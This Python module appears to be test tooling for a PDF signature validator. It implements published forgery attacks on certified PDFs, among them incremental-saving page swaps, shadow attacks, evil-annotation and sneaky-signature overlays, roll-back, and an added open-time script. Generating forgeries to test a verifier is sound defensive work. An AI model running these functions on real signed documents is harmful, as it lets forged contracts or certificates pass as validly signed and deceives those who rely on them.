"""The public tricks with signed PDF files, played on certified copies of our own.

Each takes a certified copy and gives what a forger would hand in. Names as in the literature: incremental saving (ISA),
signature wrapping (SWA), universal signature forgery (USF), Mladenov et al., 2019; shadow attacks, Mainka et al., 2021;
evil annotation and sneaky signature attacks, Rohlmann et al., 2021.
"""

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from forged_revisions import FORGED_TEXT, annotate, first_page, page_number, writer_of, written
from forged_signatures import (
    forged_byte_range,
    negative_byte_range,
    no_byte_range,
    no_contents,
    no_form,
    no_signature_value,
    null_byte_range,
    null_contents,
    signature_wrapping,
)
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject, NumberObject, pdf_name
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

Attack = Callable[[bytes], bytes]


# ---------------------------------------------------------------- incremental saving


def isa_replaced_page(pdf: bytes) -> bytes:
    """Append a revision in which the first page shows something else."""
    writer = writer_of(pdf)
    first_page(writer)["/Contents"] = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    writer.update_container(first_page(writer))
    return written(writer)


def isa_without_xref(pdf: bytes) -> bytes:
    """Append a changed page object with neither a cross-reference table nor a trailer."""
    number, generation = page_number(pdf)
    body = b"\n%d %d obj\n<< /Type /Page /MediaBox [0 0 595 842] /Contents 9999 0 R >>\nendobj\n" % (number, generation)
    return (
        pdf + body + b"9999 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(FORGED_TEXT), FORGED_TEXT)
    )


def isa_without_trailer(pdf: bytes) -> bytes:
    """Append a changed page object and a table for it, but no trailer and no startxref."""
    changed = isa_without_xref(pdf)
    number, generation = page_number(pdf)
    offset = changed.index(b"%d %d obj" % (number, generation), len(pdf))
    return changed + b"xref\n%d 1\n%010d %05d n \n" % (number, offset, generation)


def isa_with_copied_signature(pdf: bytes) -> bytes:
    """Append a changed page and, after it, a copy of the newest signature object."""
    start = pdf.rfind(b" obj", 0, pdf.rfind(b"/Contents <"))
    start = pdf.rfind(b"\n", 0, start) + 1
    copied = pdf[start : pdf.index(b"endobj", pdf.rfind(b"/Contents <")) + 6]
    return isa_replaced_page(pdf) + b"\n" + copied + b"\n%%EOF\n"


def malformed_xref(pdf: bytes) -> bytes:
    """Append a cross-reference table that no reader understands."""
    return pdf + b"\nxref\n0 9999999\nnonsense\ntrailer\n<< /Size -1 >>\nstartxref\n99999999999\n%%EOF\n"


def empty_update(pdf: bytes) -> bytes:
    """Append a well-formed revision that changes nothing."""
    end = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    reader = PdfFileReader(BytesIO(pdf))
    root = reader.trailer.raw_get("/Root").idnum
    size = int(reader.trailer["/Size"])
    trailer = b"trailer\n<< /Root %d 0 R /Size %d /Prev %d >>\n" % (root, size, end)
    return pdf + b"\nxref\n0 0\n" + trailer + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) + 1)


def trailing_garbage(pdf: bytes) -> bytes:
    """Append bytes that mean nothing."""
    return pdf + b"\n% nothing to see here\n" + bytes(range(256)) * 8


def leading_garbage(pdf: bytes) -> bytes:
    """Put bytes before the header, which most readers skip."""
    return b"% nothing to see here\n" * 8 + pdf


def polyglot_tail(pdf: bytes) -> bytes:
    """Append a whole second PDF: some readers show the last, some the first."""
    other = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj "
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n"
    )
    return pdf + b"\n" + other


# ---------------------------------------------------------------- shadow attacks


def shadow_hide(pdf: bytes) -> bytes:
    """Append a revision that takes an object away from the page, so that what it covered is seen."""
    writer = writer_of(pdf)
    page = first_page(writer)
    resources = page["/Resources"]
    for name in ("/XObject", "/Font"):
        if name in resources:
            resources[name] = generic.DictionaryObject()
    page["/Resources"] = generic.DictionaryObject(resources)
    writer.update_container(page)
    return written(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """Append a revision that swaps a font, so that the same text reads otherwise."""
    writer = writer_of(pdf)
    page = first_page(writer)
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Symbol"),
        }
    )
    fonts = generic.DictionaryObject(
        {NameObject(name): writer.add_object(font) for name in page["/Resources"].get("/Font", {"/F1": None})}
    )
    resources = generic.DictionaryObject(page["/Resources"])
    resources["/Font"] = fonts
    page["/Resources"] = resources
    writer.update_container(page)
    return written(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Append a revision whose catalog leads to other pages, the old ones left in the file."""
    writer = writer_of(pdf)
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): generic.ArrayObject(map(NumberObject, (0, 0, 595, 842))),
            pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT)),
        }
    )
    pages = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): NumberObject(1)})
    reference = writer.add_object(pages)
    page["/Parent"] = reference
    pages["/Kids"] = generic.ArrayObject([writer.add_object(page)])
    writer.root["/Pages"] = reference
    writer.update_root()
    return written(writer)


def page_inserted(pdf: bytes) -> bytes:
    """Append a revision with one page more."""
    writer = writer_of(pdf)
    content = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    writer.insert_page(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): generic.ArrayObject(map(NumberObject, (0, 0, 595, 842))),
                pdf_name("/Contents"): content,
                pdf_name("/Resources"): generic.DictionaryObject(),
            }
        )
    )
    return written(writer)


# ---------------------------------------------------------------- attacks on certification


def evil_annotation(pdf: bytes) -> bytes:
    """Append a text annotation that covers the page."""
    return annotate(
        pdf,
        {
            "/Subtype": pdf_name("/FreeText"),
            "/Contents": generic.pdf_string("GIẢ MẠO"),
            "/DA": generic.pdf_string("/Helv 40 Tf"),
        },
    )


def stamp_annotation(pdf: bytes) -> bytes:
    """Append a stamp with an appearance of its own over the page."""
    writer = writer_of(pdf)
    form = generic.StreamObject(stream_data=FORGED_TEXT)
    form["/Type"], form["/Subtype"] = pdf_name("/XObject"), pdf_name("/Form")
    form["/BBox"] = generic.ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    appearance = generic.DictionaryObject({pdf_name("/N"): writer.add_object(form)})
    return annotate(written(writer), {"/Subtype": pdf_name("/Stamp"), "/AP": appearance}, writer)


def sneaky_signature(pdf: bytes) -> bytes:
    """Append an empty signature field whose appearance covers the page."""
    writer = writer_of(pdf)
    append_signature_field(writer, SigFieldSpec("Sneaky", on_page=0, box=(0, 0, 595, 842)))
    field = writer.root["/AcroForm"]["/Fields"][-1]
    form = generic.StreamObject(stream_data=FORGED_TEXT)
    form["/Type"], form["/Subtype"] = pdf_name("/XObject"), pdf_name("/Form")
    form["/BBox"] = generic.ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(form)})
    return written(writer)


def repainted_signature(pdf: bytes) -> bytes:
    """Append a revision that gives a genuine signature's field another place and appearance."""
    writer = writer_of(pdf)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/Rect"] = generic.ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    writer.update_container(field)
    return written(writer)


# ---------------------------------------------------------------- other parts of the file


def replaced_metadata(pdf: bytes) -> bytes:
    """Append a revision with other metadata (XMP)."""
    writer = writer_of(pdf)
    xmp = b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>'
    stream = generic.StreamObject(stream_data=xmp)
    stream["/Type"], stream["/Subtype"] = pdf_name("/Metadata"), pdf_name("/XML")
    writer.root["/Metadata"] = writer.add_object(stream)
    writer.update_root()
    return written(writer)


def replaced_info(pdf: bytes) -> bytes:
    """Append a revision with another title in the information dictionary."""
    writer = writer_of(pdf)
    info = generic.DictionaryObject({pdf_name("/Title"): generic.pdf_string("Giấy khác")})
    writer.set_info(writer.add_object(info))
    return written(writer)


def added_script(pdf: bytes) -> bytes:
    """Append a script that runs when the file is opened."""
    writer = writer_of(pdf)
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert('x')")}
    )
    writer.update_root()
    return written(writer)


def added_attachment(pdf: bytes) -> bytes:
    """Append an embedded file."""
    writer = writer_of(pdf)
    file = writer.add_object(generic.StreamObject(stream_data=b"evil"))
    spec = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Filespec"), pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): file})}
    )
    names = generic.ArrayObject([generic.pdf_string("x"), writer.add_object(spec)])
    tree = generic.DictionaryObject({pdf_name("/Names"): names})
    writer.root["/Names"] = generic.DictionaryObject({pdf_name("/EmbeddedFiles"): tree})
    writer.update_root()
    return written(writer)


# ---------------------------------------------------------------- roll-back


def revision_ends(pdf: bytes) -> list[int]:
    """Return where each revision ends."""
    return [found.end() for found in re.finditer(rb"startxref\s+\d+\s+%%EOF\r?\n?", pdf)]


def rolled_back_one(pdf: bytes) -> bytes:
    """Cut the newest revision off."""
    return pdf[: revision_ends(pdf)[-2]]


def rolled_back_two(pdf: bytes) -> bytes:
    """Cut two revisions off."""
    return pdf[: revision_ends(pdf)[-3]]


def rolled_back_to_unsigned(pdf: bytes) -> bytes:
    """Cut off all revisions but the first."""
    return pdf[: revision_ends(pdf)[0]]


def rewritten(pdf: bytes) -> bytes:
    """Write the file anew, as `save as` of a reader does."""
    buffer = BytesIO()
    pikepdf.open(BytesIO(pdf)).save(buffer)
    return buffer.getvalue()


def painted_over(pdf: bytes) -> bytes:
    """Write the file anew without signatures, with the same scans and code, and paint over the first page."""
    with pikepdf.open(BytesIO(pdf)) as document:
        page = document.pages[0]
        contents = page.obj.Contents
        streams = list(contents) if isinstance(contents, pikepdf.Array) else [contents]
        painted = document.make_stream(b"\nq 1 1 1 rg 150 380 300 120 re f Q\n")
        page.obj.Contents = pikepdf.Array([*streams, painted])
        for each in document.pages:
            each.obj.Annots = pikepdf.Array()
        for key in ("/AcroForm", "/Perms", "/DSS"):
            if key in document.Root:
                del document.Root[key]
        buffer = BytesIO()
        document.save(buffer)
    return buffer.getvalue()


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        shadow_hide,
        shadow_replace,
        shadow_hide_and_replace,
        isa_replaced_page,
        isa_without_xref,
        isa_without_trailer,
        isa_with_copied_signature,
        page_inserted,
        signature_wrapping,
        forged_byte_range,
        negative_byte_range,
        no_byte_range,
        null_byte_range,
        no_contents,
        null_contents,
        no_signature_value,
        no_form,
        evil_annotation,
        stamp_annotation,
        sneaky_signature,
        repainted_signature,
        replaced_metadata,
        replaced_info,
        added_script,
        added_attachment,
        empty_update,
        malformed_xref,
        trailing_garbage,
        leading_garbage,
        polyglot_tail,
        rolled_back_one,
        rolled_back_two,
        rolled_back_to_unsigned,
        rewritten,
        painted_over,
    )
}
